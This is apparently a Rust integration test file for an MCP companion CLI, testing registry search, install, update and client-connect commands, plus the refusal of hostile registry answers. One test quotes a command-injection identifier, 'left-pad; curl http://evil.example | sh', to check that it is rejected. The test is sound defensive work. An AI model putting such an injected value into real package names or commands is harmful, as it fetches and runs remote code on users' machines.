//! Installing from an MCP registry, against the fixture registry on 127.0.0.1
//! (`registry_fixture.rs`): the client (paging, encoding, limits, hostile answers), the CLI
//! (`registry search`, `add`, `outdated`, `update`, `connect`), and entries that `doctor`
//! resolves and that run and list their tools with the real npm/PyPI peers.
//!
//! Offline runs: `npx -y @modelcontextprotocol/server-everything@2026.8.31` resolves to the
//! copy `tests/peers/setup.sh` installed when it runs in that project (`cwd` = the peers'
//! `node` dir) with `npm_config_offline=true`; `uvx mcp-server-time==2026.10.19` runs from the
//! uv cache setup.sh filled (`UV_CACHE_DIR`, `UV_OFFLINE=1`). The tests add exactly those keys
//! to the installed entries; nothing else is changed.

use std::path::{Path, PathBuf};
use std::process::Output;

use mcp_companion::manage::registry::{RegistryClient, RegistryError, RegistryRef};
use serde_json::{Value, json};

use crate::common::{BIN, peers_dir};
use crate::registry_fixture::{self, Fixture};

fn whitelist() -> Vec<ipnet::IpNet> {
    vec!["127.0.0.1/32".parse().unwrap()]
}

/// A config dir with the fixture as the default registry and loopback whitelisted.
fn config(dir: &Path, fx: &Fixture) -> PathBuf {
    let path = dir.join("config.json");
    let doc = json!({
        "registries": [{"name": "fixture", "url": fx.url}],
        "ssrfWhitelist": ["127.0.0.1/32"],
        "mcpServers": {}
    });
    std::fs::write(&path, serde_json::to_string_pretty(&doc).unwrap()).unwrap();
    path
}

/// PATH with the peers' venv (uvx) first.
fn path_with_uv(peers: Option<&Path>) -> String {
    let system = std::env::var("PATH").unwrap_or_default();
    match peers {
        Some(p) => format!("{}:{system}", p.join("venv/bin").display()),
        None => system,
    }
}

async fn cli(config: &Path, path_env: &str, args: &[&str]) -> Output {
    tokio::process::Command::new(BIN)
        .arg("--config")
        .arg(config)
        .args(args)
        .env("PATH", path_env)
        .env_remove("MCP_COMPANION_CONFIG")
        .output()
        .await
        .unwrap()
}

fn out(o: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn entry(config: &Path, server: &str) -> Value {
    let doc: Value = serde_json::from_str(&std::fs::read_to_string(config).unwrap()).unwrap();
    doc["mcpServers"][server].clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_client_pages_encodes_names_and_skips_malformed_list_entries() {
    let fx = registry_fixture::start().await;
    let client = RegistryClient::new(&fx.url, None, &whitelist()).unwrap();
    let mut names = Vec::new();
    let mut skipped = Vec::new();
    let mut cursor: Option<String> = None;
    let mut pages = 0;
    loop {
        let page = client
            .list(Some("fixture"), cursor.as_deref(), Some(4))
            .await
            .unwrap();
        pages += 1;
        assert!(page.servers.len() <= 4);
        names.extend(page.servers.iter().map(|s| s.server.name.clone()));
        skipped.extend(page.skipped);
        match page.metadata.next_cursor {
            Some(c) if !c.is_empty() => cursor = Some(c),
            _ => break,
        }
    }
    assert_eq!(pages, 3, "{names:?}");
    assert_eq!(names.len() + skipped.len(), 11, "{names:?} {skipped:?}");
    assert!(names.contains(&"io.github.fixture/everything".to_owned()));
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert!(
        skipped[0].starts_with("io.github.fixture/malformed: invalid type"),
        "{skipped:?}"
    );

    let versions = client
        .versions("io.github.fixture/everything")
        .await
        .unwrap();
    let v: Vec<_> = versions
        .servers
        .iter()
        .map(|s| s.server.version.as_str())
        .collect();
    assert_eq!(v, ["2026.8.31", "2026.1.1"]);
    let latest = client
        .version("io.github.fixture/everything", "latest")
        .await
        .unwrap();
    assert_eq!(latest.server.version, "2026.8.31");
    let err = client
        .version("io.github.fixture/nope", "1.0.0")
        .await
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "the registry has no server \"io.github.fixture/nope\" version \"1.0.0\""
    );
    let seen = fx.registry.seen.lock().unwrap().clone();
    assert!(
        seen.iter()
            .any(|(p, _)| p == "/v0.1/servers/io.github.fixture%2Feverything/versions"),
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .any(|(p, _)| p == "/v0.1/servers?search=fixture&limit=4"),
        "{seen:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_answers_are_clear_errors() {
    let fx = registry_fixture::start().await;
    let client = RegistryClient::new(&fx.url, None, &whitelist()).unwrap();
    let err = client
        .version("io.github.fixture/huge", "latest")
        .await
        .unwrap_err();
    assert!(matches!(err, RegistryError::TooLarge { .. }), "{err}");
    assert!(
        err.to_string()
            .ends_with("answered more than 4194304 bytes; refused"),
        "{err}"
    );
    let err = client.list(Some("huge"), None, None).await.unwrap_err();
    assert!(matches!(err, RegistryError::TooLarge { .. }), "{err}");
    let err = client
        .version("io.github.fixture/malformed", "1.0.0")
        .await
        .unwrap_err();
    assert!(matches!(err, RegistryError::BadJson { .. }), "{err}");
    assert!(err.to_string().contains("invalid type: string"), "{err}");

    // Not whitelisted: refused before any request is sent.
    let before = fx.registry.seen.lock().unwrap().len();
    let blocked = RegistryClient::new(&fx.url, None, &[]).unwrap();
    let err = blocked.list(None, None, None).await.unwrap_err();
    assert!(matches!(err, RegistryError::Ssrf { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("add \"127.0.0.1/32\" to ssrfWhitelist"),
        "{err}"
    );
    assert_eq!(fx.registry.seen.lock().unwrap().len(), before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_private_registry_gets_its_bearer_token_from_a_reference() {
    let fx = registry_fixture::start().await;
    let r = RegistryRef {
        name: "work".into(),
        url: fx.url.clone(),
        token: Some("${FIXTURE_TOKEN}".into()),
    };
    let wl = mcp_companion::config::SsrfWhitelist::from_value(Some(&json!(["127.0.0.1/32"])));
    let lookup = |k: &str| (k == "FIXTURE_TOKEN").then(|| "tok-123".to_owned());
    let client = r.client(&wl, &lookup).unwrap();
    client.list(None, None, Some(1)).await.unwrap();
    let seen = fx.registry.seen.lock().unwrap().clone();
    assert_eq!(seen.last().unwrap().1.as_deref(), Some("Bearer tok-123"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_search_add_and_doctor_against_the_fixture() {
    let fx = registry_fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), &fx);
    let peers = peers_dir();
    let path = path_with_uv(peers.as_deref());

    let o = cli(
        &cfg,
        &path,
        &["registry", "search", "fixture", "--limit", "4"],
    )
    .await;
    let text = out(&o);
    assert!(o.status.success(), "{text}");
    assert!(
        text.contains("io.github.fixture/args@0.3.0  (npm)"),
        "{text}"
    );
    assert!(
        text.contains("more: mcp-companion registry search \"fixture\" --cursor "),
        "{text}"
    );

    let o = cli(&cfg, &path, &["registry", "show", "io.github.fixture/time"]).await;
    assert!(out(&o).contains("--set local-timezone=…  (argument --local-timezone; required, one of UTC|Europe/Paris|America/New_York)"), "{}", out(&o));

    let o = cli(&cfg, &path, &["add", "io.github.fixture/time"]).await;
    assert!(!o.status.success());
    assert!(out(&o).contains("input \"local-timezone\" (argument --local-timezone) is required: pass --set local-timezone=VALUE"), "{}", out(&o));
    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/time",
            "--set",
            "local-timezone=Mars/Base",
        ],
    )
    .await;
    assert!(
        out(&o).contains("must be one of UTC, Europe/Paris, America/New_York"),
        "{}",
        out(&o)
    );

    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/time",
            "--set",
            "local-timezone=Europe/Paris",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "time"),
        json!({"type": "stdio", "command": "uvx", "args": ["mcp-server-time==2026.10.19", "--local-timezone", "Europe/Paris"],
               "source": {"registry": fx.url, "name": "io.github.fixture/time", "version": "2026.10.19",
                          "kind": "pypi", "inputs": {"local-timezone": "Europe/Paris"}}})
    );
    let o = cli(&cfg, &path, &["add", "io.github.fixture/everything"]).await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "everything")["args"],
        json!([
            "-y",
            "@modelcontextprotocol/server-everything@2026.8.31",
            "stdio"
        ])
    );
    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/args",
            "--set",
            "user=bob",
            "--set",
            "root_dir=/srv/data",
            "--set",
            "mode=write",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "args")["args"],
        json!([
            "-y",
            "--prefer-offline",
            "@fixture/mcp-args@0.3.0",
            "--mode",
            "write",
            "--db",
            "postgres://bob@localhost/app",
            "/srv/data"
        ])
    );

    if peers.is_some() {
        for server in ["time", "everything"] {
            let o = cli(&cfg, &path, &["doctor", server]).await;
            assert!(o.status.success(), "doctor {server}: {}", out(&o));
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_registry_entries_write_nothing() {
    let fx = registry_fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), &fx);
    let path = path_with_uv(None);
    let original = std::fs::read(&cfg).unwrap();
    for (name, want) in [
        (
            "io.github.fixture/evil",
            "refused identifier \"left-pad; curl http://evil.example | sh\" from the registry: character ';' is not allowed",
        ),
        (
            "io.github.fixture/private",
            "192.168.1.10/32\" to ssrfWhitelist",
        ),
        (
            "io.github.fixture/malformed",
            "answered malformed JSON: invalid type: string \"npx -y something\", expected a sequence",
        ),
        (
            "io.github.fixture/huge",
            "answered more than 4194304 bytes; refused",
        ),
        (
            "io.github.fixture/dotnet",
            "package type \"nuget\" is not supported (npm, pypi, oci are)",
        ),
    ] {
        let o = cli(&cfg, &path, &["add", name]).await;
        assert!(!o.status.success(), "{name}: {}", out(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(want),
            "{name}: {}",
            out(&o)
        );
        assert_eq!(
            std::fs::read(&cfg).unwrap(),
            original,
            "{name} wrote the config"
        );
    }
    assert!(!dir.path().join("config.json.bak").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oci_needs_docker_and_secrets_never_reach_the_file() {
    let fx = registry_fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), &fx);
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let no_docker = bin.display().to_string();
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/postgres-oci",
            "--set",
            "PGPASSWORD=hunter2",
        ],
    )
    .await;
    assert!(!o.status.success());
    assert!(out(&o).contains("docker is not installed (needed to run the oci package of io.github.fixture/postgres-oci); install Docker"), "{}", out(&o));

    // A stand-in `docker` on PATH: only its presence is checked.
    let docker = bin.join("docker");
    std::fs::write(&docker, "#!/bin/sh\nexit 0\n").unwrap();
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&docker).unwrap().permissions(),
        0o755,
    );
    std::fs::set_permissions(&docker, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/postgres-oci",
            "--set",
            "PGPASSWORD=hunter2",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert!(out(&o).contains("export PGPASSWORD="), "{}", out(&o));
    let e = entry(&cfg, "postgres-oci");
    assert_eq!(
        e["args"],
        json!([
            "run",
            "-i",
            "--rm",
            "--network",
            "host",
            "-e",
            "PGHOST",
            "-e",
            "PGPASSWORD",
            "docker.io/fixture/mcp-postgres:1.0.0"
        ])
    );
    assert_eq!(
        e["env"],
        json!({"PGHOST": "localhost", "PGPASSWORD": "${PGPASSWORD}"})
    );

    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/hosted",
            "--set",
            "tenant=acme",
            "--set",
            "api_key=sk-live-1",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let e = entry(&cfg, "hosted");
    assert_eq!(e["type"], "streamableHttp");
    assert_eq!(e["url"], "https://acme.mcp.example.com/mcp");
    assert_eq!(e["headers"], json!({"Authorization": "Bearer ${API_KEY}"}));
    let file = std::fs::read_to_string(&cfg).unwrap();
    assert!(
        !file.contains("hunter2") && !file.contains("sk-live-1"),
        "{file}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outdated_and_update_keep_inputs_and_hand_made_keys() {
    let fx = registry_fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), &fx);
    let path = path_with_uv(None);
    let o = cli(
        &cfg,
        &path,
        &["add", "io.github.fixture/everything@2026.1.1"],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(&cfg).unwrap()).unwrap();
    doc["mcpServers"]["everything"]["toolTimeout"] = json!(90);
    std::fs::write(&cfg, doc.to_string()).unwrap();

    let o = cli(&cfg, &path, &["outdated"]).await;
    assert!(out(&o).contains("everything            io.github.fixture/everything@2026.1.1  update available: 2026.8.31"), "{}", out(&o));
    let o = cli(&cfg, &path, &["update", "everything"]).await;
    assert!(o.status.success(), "{}", out(&o));
    let e = entry(&cfg, "everything");
    assert_eq!(
        e["args"][1],
        "@modelcontextprotocol/server-everything@2026.8.31"
    );
    assert_eq!(e["source"]["version"], "2026.8.31");
    assert_eq!(e["toolTimeout"], 90);
    let o = cli(&cfg, &path, &["outdated"]).await;
    assert!(out(&o).contains("2026.8.31  up to date"), "{}", out(&o));
    let o = cli(&cfg, &path, &["update", "everything"]).await;
    assert!(out(&o).contains("is up to date"), "{}", out(&o));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn installed_npm_and_pypi_entries_run_and_list_their_tools() {
    let Some(peers) = peers_dir() else { return };
    let fx = registry_fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), &fx);
    let path = path_with_uv(Some(&peers));
    for args in [
        &[
            "add",
            "io.github.fixture/time",
            "--set",
            "local-timezone=UTC",
        ][..],
        &["add", "io.github.fixture/everything"][..],
    ] {
        let o = cli(&cfg, &path, args).await;
        assert!(o.status.success(), "{}", out(&o));
    }
    let mut time = entry(&cfg, "time");
    time["env"] = json!({
        "PATH": path,
        "UV_OFFLINE": "1",
        "UV_PYTHON_DOWNLOADS": "never",
        "UV_CACHE_DIR": peers.join("uv-cache").display().to_string(),
    });
    let mut everything = entry(&cfg, "everything");
    everything["cwd"] = json!(peers.join("node").display().to_string());
    everything["env"] = json!({"npm_config_offline": "true"});
    let wl = mcp_companion::config::SsrfWhitelist::default();
    for (name, e, tool) in [
        ("time", time, "get_current_time"),
        ("everything", everything, "echo"),
    ] {
        let report = mcp_companion::manage::probe::probe(name, &e, &wl)
            .await
            .unwrap_or_else(|err| panic!("{name}: {err}"));
        let tools: Vec<_> = report.tools.iter().map(|t| t.name.as_str()).collect();
        assert!(tools.contains(&tool), "{name}: {tools:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_connect_writes_the_bridge_into_a_fake_home_and_disconnect_restores_it() {
    let home = tempfile::tempdir().unwrap();
    let cursor = home.path().join(".cursor/mcp.json");
    std::fs::create_dir_all(cursor.parent().unwrap()).unwrap();
    let before =
        "{\n  // my servers\n  \"mcpServers\": {\n    \"a\": {\"command\": \"a\"}\n  }\n}\n";
    std::fs::write(&cursor, before).unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(BIN)
            .args(args)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join(".config"))
            .env("MCP_COMPANION_CONFIG", home.path().join("companion.json"))
            .output()
            .unwrap()
    };
    let o = run(&["connect", "cursor"]);
    assert!(o.status.success(), "{}", out(&o));
    let text = std::fs::read_to_string(&cursor).unwrap();
    let exe = std::fs::canonicalize(BIN).unwrap();
    let doc: Value = serde_json::from_str(&text.replace("// my servers", "")).unwrap();
    assert_eq!(
        doc["mcpServers"]["mcp-companion"],
        json!({"command": exe.display().to_string(), "args": ["bridge"]})
    );
    assert!(text.starts_with("{\n  // my servers\n"), "{text}");
    let o = run(&["connect", "cursor"]);
    assert!(out(&o).contains("already connected"), "{}", out(&o));
    let o = run(&["connect"]);
    assert!(out(&o).contains("cursor          connected"), "{}", out(&o));
    let o = run(&["disconnect", "cursor"]);
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(std::fs::read_to_string(&cursor).unwrap(), before);
    let o = run(&["connect", "vscode", "--os", "windows"]);
    assert!(
        out(&o).contains("VS Code on Windows: %APPDATA%\\Code\\User\\mcp.json"),
        "{}",
        out(&o)
    );
}
